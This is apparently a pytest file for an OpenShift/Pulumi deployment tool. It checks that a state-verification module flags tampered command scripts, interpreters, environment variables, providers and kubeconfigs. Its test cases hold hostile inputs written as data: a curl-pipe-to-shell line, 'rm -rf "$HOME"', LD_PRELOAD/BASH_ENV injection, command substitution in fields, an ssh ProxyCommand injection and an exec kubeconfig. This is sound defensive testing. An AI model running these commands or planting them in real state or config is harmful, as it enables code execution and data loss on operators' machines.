"""The state's commands against the program's own (cluster/state_scripts.py; issue 49, item 4): the program's
own states pass whatever the stack (every committed stack and the variants that change a command: the helper's
upload with either host key, the given network's tag, per-zone groups in the cleanup, configs read from a
directory, pointers and images read from a running cluster), so do the states of earlier releases
(tests/states); a state in which any input that decides what runs was changed (a script, the interpreter,
the directory, a variable or a value that names a program or carries one) stops, naming the resource and the input."""

from __future__ import annotations

import copy
import hashlib
import json
import shutil

import pytest
import yaml

from cluster.config import load_config
from cluster.installer import InstallerAssets, pointer_environment, unbundle, worker_images_environment
from cluster.installer_output import bundle
from cluster.state_scripts import EARLIER, Difference, differences
from cluster.state_values import SECRET_SIG
from cluster.stackfile import read_stack_file
from tests.components.test_zones import three_zones
from tests.conftest import PULL_SECRET, ROOT, run, stack_config, with_helper, with_section

STATES = sorted((ROOT / "tests" / "states").glob("*/*/state.json"))
NET, SUBNET = "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "2b3c4d5e-6f7a-4b8c-9d0e-1f2a3b4c5d6e"
DRAIN = "ocp4-workers-worker-0-drain"
EXEC_KUBECONFIG = yaml.safe_dump(
    {
        "apiVersion": "v1", "kind": "Config", "current-context": "admin",
        "clusters": [{"name": "c", "cluster": {"server": "https://api.ocp4.osd2019.local:6443"}}],
        "contexts": [{"name": "admin", "context": {"cluster": "c", "user": "admin"}}],
        "users": [{"name": "admin", "user": {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh", "args": ["-c", "touch /tmp/owned"]}}}],
    }
)


def deployed(config: dict[str, str], stack: str = "dev") -> list[dict]:
    """The state the program's `pulumi up` leaves (under mocks)."""
    return run(config, stack).state()


def found(state, config: dict[str, str] | None = None, stack: str = "dev") -> list[tuple[str, str]]:
    """(resource, input) of every difference."""
    loaded = load_config(config) if config is not None else None
    return [(difference.resource, difference.input) for difference in differences(state, loaded, stack)]


def resource(state: list[dict], name: str) -> dict:
    return next(item for item in state if item["urn"].endswith(f"::{name}"))


def changed(state: list[dict], name: str, *parts: str, **values) -> list[dict]:
    """A copy of `state` with `values` set in the resource's inputs and outputs (`parts`: only these)."""
    state = copy.deepcopy(state)
    for part in parts or ("inputs", "outputs"):
        target = resource(state, name)[part]
        for key, value in values.items():
            if "." in key:
                outer, inner = key.split(".", 1)
                target.setdefault(outer, {})[inner] = value
            else:
                target[key] = value
    return state


@pytest.fixture(scope="module")
def dev_config() -> dict[str, str]:
    return stack_config("dev")


@pytest.fixture(scope="module")
def dev_state(dev_config) -> list[dict]:
    return deployed(dev_config)


# ---- what the program gives passes


@pytest.mark.parametrize(
    ("stack", "edit"),
    [
        ("dev", None),
        ("standalone", None),
        ("kvm", None),
        ("example", None),
        ("dev", with_helper),
        ("dev", lambda config: with_section(config, "openstack", existingNetwork={"networkId": NET, "subnetId": SUBNET})),
        ("dev", three_zones),
        ("standalone", lambda config: with_section(config, "installer", binary=None, dir=None, assetsDir=str(ROOT / "samples/installer/ocp4"))),
        ("dev", lambda config: with_section(config, "installer", oc="/opt/openshift/bin/kubectl-1.32", binary="/opt/openshift/bin/openshift-install-fips")),
    ],
    ids=["dev", "standalone", "kvm", "example", "helper", "given-network", "zones", "assets-dir", "tool-paths"],
)
def test_the_programs_own_state_passes(stack, edit):
    config = stack_config(stack)
    config = edit(config) if edit else config
    state = deployed(config, stack)
    assert [item for item in state if item["type"] == "command:local:Command"]
    assert found(state, config, stack) == []
    assert found(state, None, stack) == []  # a stack file that does not load: by shape alone


def test_the_helpers_ecdsa_upload_passes(tmp_path):
    """With ocp:fips the helper's host key, and so the upload's script, is ECDSA's."""
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen is not installed (Debian package openssh-client)")
    from tests.components.test_bootstrap_helper import helper_stack

    config, _ = helper_stack(tmp_path, "ecdsa", fips=True)
    state = deployed(config)
    upload = resource(state, "ocp4-bootstrap-helper-ssh-upload")["inputs"]
    assert "HostKeyAlgorithms=ecdsa-sha2-nistp256" in upload["create"] and upload["environment"]["HELPER_KEY_FILE"]
    assert found(state, config) == []


def test_pointers_and_images_read_from_the_running_cluster_pass(dev_config, dev_state):
    """Once the bootstrap is gone a node's pointer (integrated) or images (standalone) come from the cluster:
    those environments name oc, the kubeconfig, the pull secret."""
    config = load_config(dev_config)
    stdout = resource(dev_state, "installer-run")["outputs"]["stdout"]
    assets = InstallerAssets.from_files(unbundle(stdout))
    state = changed(dev_state, "ocp4-worker-pointers-worker-0", environment=pointer_environment(config, assets, "x-worker-0", True, "worker", strict=False))
    state = changed(state, "ocp4-master-pointers-master-0", environment=pointer_environment(config, assets, "x-master-0", True, "master"))
    assert found(state, dev_config) == []
    standalone = stack_config("standalone")
    state = deployed(standalone, "standalone")
    images = [item["urn"].rsplit("::", 1)[1] for item in state if "WorkerImages" in item["urn"]]
    assert images
    state = changed(state, images[0], environment=worker_images_environment(load_config(standalone), assets, "ocp4-worker-0", True))
    assert found(state, standalone, "standalone") == []


@pytest.mark.parametrize("state_file", STATES, ids=lambda path: f"{path.parent.parent.name}-{path.parent.name}")
def test_the_states_of_earlier_releases_pass(state_file):
    """Their scripts are the release's own: a command run once keeps it for good (EARLIER holds their digests)."""
    stack = state_file.parent.name
    config = {**read_stack_file(state_file.parent / f"Pulumi.{stack}.yaml").config, "ocp:pullSecret": PULL_SECRET}
    state = json.loads(state_file.read_text())
    problems = differences(state, load_config(config), stack)
    hint = [f"{p.resource} {p.input}: {hashlib.sha256(str(resource(state, p.resource)['inputs'].get(p.input, '')).encode()).hexdigest()}" for p in problems]
    assert problems == [], f"add to EARLIER: {hint}"


def test_an_earlier_releases_script_changed_by_one_character_is_refused():
    state_file = ROOT / "tests/states/b6d1d58/dev/state.json"
    state = json.loads(state_file.read_text())
    old = resource(state, "ocp4-cleanup-on-destroy")["inputs"]["delete"]
    assert hashlib.sha256(old.encode()).hexdigest() in EARLIER[("cleanup", "delete")]
    state = changed(state, "ocp4-cleanup-on-destroy", "inputs", delete=old.replace("exit 0", "exit 0 ", 1))
    assert found(state) == [("ocp4-cleanup-on-destroy", "delete")]


# ---- what a writer of the state could change


@pytest.mark.parametrize(
    ("name", "values", "expected"),
    [
        (DRAIN, {"delete": 'touch "$HOME/owned"'}, "delete"),
        (DRAIN, {"create": "curl -s https://example.com/x | sh"}, "create"),
        (DRAIN, {"update": "touch /tmp/owned"}, "update"),
        (DRAIN, {"interpreter": ["/usr/bin/python3", "-c"]}, "interpreter"),
        (DRAIN, {"dir": "/tmp/elsewhere"}, "dir"),
        (DRAIN, {"environment.BASH_ENV": "/tmp/owned.sh"}, "environment.BASH_ENV"),
        (DRAIN, {"environment.LD_PRELOAD": "/tmp/owned.so"}, "environment.LD_PRELOAD"),
        (DRAIN, {"environment.PATH": "/tmp/bin:/usr/bin:/bin"}, "environment.PATH"),
        (DRAIN, {"environment.OC": "/tmp/owned"}, "environment.OC"),
        (DRAIN, {"environment.KUBECONFIG_DATA": EXEC_KUBECONFIG}, "environment.KUBECONFIG_DATA"),
        (DRAIN, {"environment.NODE": "--kubeconfig=/tmp/other"}, "environment.NODE"),
        ("ocp4-cleanup-on-destroy", {"delete": "touch /tmp/owned"}, "delete"),
        ("ocp4-cleanup-on-destroy", {"delete": "export OCP_OWN_GROUP_ZONES='{}'; touch /tmp/owned\nset -u\n"}, "delete"),
        ("ocp4-cleanup-on-destroy", {"create": "touch /tmp/owned"}, "create"),
        ("ocp4-cleanup-on-destroy", {"environment.OS_CLOUD": "elsewhere"}, "environment.OS_CLOUD"),
        ("ocp4-cleanup-on-destroy", {"environment.INFRA_ID": "$(touch /tmp/owned)"}, "environment.INFRA_ID"),
        ("ocp4-cleanup-on-destroy", {"environment.OCP_CLEANUP_PYTHON": "/tmp/owned"}, "environment.OCP_CLEANUP_PYTHON"),
        ("ocp4-bootstrap-config-file", {"delete": 'rm -rf "$HOME"'}, "delete"),
        ("ocp4-bootstrap-config-file", {"environment.FILE": "/root/.bashrc"}, "environment.FILE"),
        ("ocp4-bootstrap-config-file", {"interpreter": ["/bin/bash", "-c"]}, "interpreter"),
        ("installer-run", {"create": "touch /tmp/owned"}, "create"),
        ("installer-run", {"update": "touch /tmp/owned"}, "update"),
        ("installer-run", {"delete": "touch /tmp/owned"}, "delete"),
        ("installer-run", {"environment.OPENSHIFT_INSTALL": "/tmp/owned"}, "environment.OPENSHIFT_INSTALL"),
        ("installer-run", {"environment.PULL_SECRET": '{"auths": {}, "credHelpers": {"quay.io": "owned"}}'}, "environment.PULL_SECRET"),
        ("installer-run", {"environment.STACK": "other"}, "environment.STACK"),
        ("ocp4-worker-pointers-worker-0", {"create": "touch /tmp/owned"}, "create"),
        ("ocp4-worker-pointers-worker-0", {"environment.BASH_ENV": "/tmp/owned.sh"}, "environment.BASH_ENV"),
        ("ocp4-master-pointers-master-0", {"create": "touch /tmp/owned"}, "create"),
    ],
)
def test_a_changed_input_that_decides_what_runs_is_named(dev_config, dev_state, name, values, expected):
    for part in ("inputs", "outputs"):  # a delete runs from the outputs, an update from the inputs
        assert found(changed(dev_state, name, part, **values), dev_config) == [(name, expected)], part
        if expected != "environment.OS_CLOUD":  # the stack file's alone: unread, any name passes
            assert (name, expected) in found(changed(dev_state, name, part, **values), None)


def test_the_given_networks_tag_and_the_helpers_upload_are_checked_too():
    config = with_section(with_helper(stack_config("dev")), "openstack", existingNetwork={"networkId": NET, "subnetId": SUBNET})
    state = deployed(config)
    tag, upload = "ocp4-network-primary-tag", "ocp4-bootstrap-helper-ssh-upload"
    create = resource(state, upload)["inputs"]["create"]
    for name, values, expected in [
        (tag, {"delete": "touch /tmp/owned"}, "delete"),
        (tag, {"create": "touch /tmp/owned"}, "create"),
        (tag, {"environment.NETWORK": "another"}, "environment.NETWORK"),
        (tag, {"environment.TAG": "x; touch /tmp/owned"}, "environment.TAG"),
        (upload, {"create": create.replace("sudo mv", "touch /tmp/owned; sudo mv", 1)}, "create"),
        (upload, {"create": create + "touch /tmp/owned\n"}, "create"),
        (upload, {"create": create.replace("HostKeyAlgorithms=ssh-ed25519", "HostKeyAlgorithms=ssh-rsa")}, "create"),
        (upload, {"environment.HELPER_HOST": "-oProxyCommand=touch /tmp/owned"}, "environment.HELPER_HOST"),
        (upload, {"environment.HELPER_HOST_KEY": "ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 AAAA"}, "environment.HELPER_HOST_KEY"),
    ]:
        assert found(changed(state, name, **values), config) == [(name, expected)], (name, values)


def test_a_stack_file_value_that_lags_may_stay_a_program_of_the_same_name(dev_config, dev_state):
    """ocp:installer.oc may change after a command stored it (its effect is inert): another oc or kubectl passes, nothing else."""
    assert found(changed(dev_state, DRAIN, **{"environment.OC": "/usr/local/bin/kubectl"}), dev_config) == []
    assert found(changed(dev_state, DRAIN, **{"environment.OC": "/usr/bin/python3"}), dev_config) == [(DRAIN, "environment.OC")]


def test_a_command_this_program_does_not_make_is_named(dev_config, dev_state):
    drain = resource(dev_state, DRAIN)
    extra = copy.deepcopy(drain)
    extra["urn"] = drain["urn"].replace("ocp:openstack:NodePool", "ocp:openstack:Cluster").replace(DRAIN, "ocp4-extra")
    remote = {**copy.deepcopy(drain), "type": "command:remote:Command", "urn": drain["urn"].replace("local", "remote").replace(DRAIN, "ocp4-remote")}
    renamed = copy.deepcopy(drain)
    renamed["urn"] = drain["urn"].replace(DRAIN, "ocp4-workers-worker-0-run")
    assert found([*dev_state, extra, remote, renamed], dev_config) == [("ocp4-extra", "type"), ("ocp4-remote", "type"), ("ocp4-workers-worker-0-run", "type")]


def test_providers_that_would_run_something_else_are_named(dev_config, dev_state):
    state = changed(dev_state, "command", pluginDownloadURL="https://example.com/plugins")
    assert found(state, dev_config) == [("command", "pluginDownloadURL"), ("command", "inputs")]
    # Where today's engine keeps them (__internal), beside the provider's own version: what it stores is fine.
    kept = {"version": "1.2.1", "__internal": {"pluginChecksums": {}}, "__pulumi-go-provider-version": "1.2.0"}
    assert found(changed(dev_state, "command", **kept), dev_config) == []
    for internal in ({"pluginDownloadURL": "https://example.com/plugins"}, {"name": "other"}, {"parameterization": "eA=="}):
        state = changed(dev_state, "command", "outputs", __internal=internal)
        assert found(state, dev_config) == [("command", next(iter(internal)) if "Download" in next(iter(internal)) else "__internal")], internal
    assert found(changed(dev_state, "openstack", "inputs", cloud="elsewhere"), dev_config) == [("openstack", "cloud")]
    # What the runner's OS_* variables gave the provider is kept beside its cloud (the real plugin does so).
    assert found(changed(dev_state, "openstack", region="RegionOne", insecure="true"), dev_config) == []
    kvm = stack_config("kvm")
    libvirt_state = deployed(kvm, "kvm")
    provider = next(item["urn"].rsplit("::", 1)[1] for item in libvirt_state if item["type"] == "pulumi:providers:libvirt")
    uri = "qemu+ssh://root@192.168.122.1/system?command=/tmp/owned"
    assert found(changed(libvirt_state, provider, uri=uri), kvm, "kvm") == [(provider, "uri")]
    assert found(changed(libvirt_state, provider, uri=uri), None, "kvm") == [(provider, "uri")]


def test_a_kubeconfig_that_runs_a_program_is_named_wherever_the_state_holds_it(dev_config, dev_state):
    """The installer's output (the drains' and pointers' kubeconfig comes from it) and the stack output the driver writes."""
    installer = resource(dev_state, "installer-run")
    files = unbundle(installer["outputs"]["stdout"])
    files["auth/kubeconfig"] = EXEC_KUBECONFIG.encode()
    state = changed(dev_state, "installer-run", "outputs", stdout=bundle(files))
    assert found(state, dev_config) == [("installer-run", "stdout")]
    root = {"urn": "urn:pulumi:dev::ocp::pulumi:pulumi:Stack::ocp-dev", "type": "pulumi:pulumi:Stack", "outputs": {"kubeconfig": EXEC_KUBECONFIG}}
    assert found([*dev_state, root], dev_config) == [("ocp-dev", "outputs.kubeconfig")]


def export(value) -> dict:
    """A value as `pulumi stack export --show-secrets` writes a secret."""
    return {SECRET_SIG: "1b47061264138c4ac30d75fd1eb44270", "plaintext": json.dumps(value)}


def test_secrets_of_an_export_are_read_and_checked(dev_config, dev_state):
    environment = dict(resource(dev_state, DRAIN)["inputs"]["environment"])
    assert found(changed(dev_state, DRAIN, environment=export(environment)), dev_config) == []
    tampered = export({**environment, "BASH_ENV": "/tmp/owned.sh"})
    assert found(changed(dev_state, DRAIN, environment=tampered), dev_config) == [(DRAIN, "environment.BASH_ENV")]
    encrypted = {SECRET_SIG: "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "v1:abc"}
    assert found(changed(dev_state, DRAIN, delete=encrypted), dev_config) == [(DRAIN, "delete")]


def test_a_deployment_as_exported_with_its_pending_operations(dev_config, dev_state):
    pending = copy.deepcopy(resource(dev_state, DRAIN))
    pending["outputs"]["delete"] = "touch /tmp/owned"
    deployment = {"manifest": {}, "resources": dev_state, "pending_operations": [{"resource": pending, "type": "deleting"}]}
    assert found(deployment, dev_config) == [(DRAIN, "delete")]


def test_a_state_without_commands_needs_no_stack_file():
    assert differences({"resources": [{"urn": "urn:pulumi:a::ocp::ocp:test:Part::network", "type": "ocp:test:Part"}]}, None, "a") == []
    assert differences({}, None, "a") == [] and isinstance(Difference("a", "u", "i", "w"), Difference)
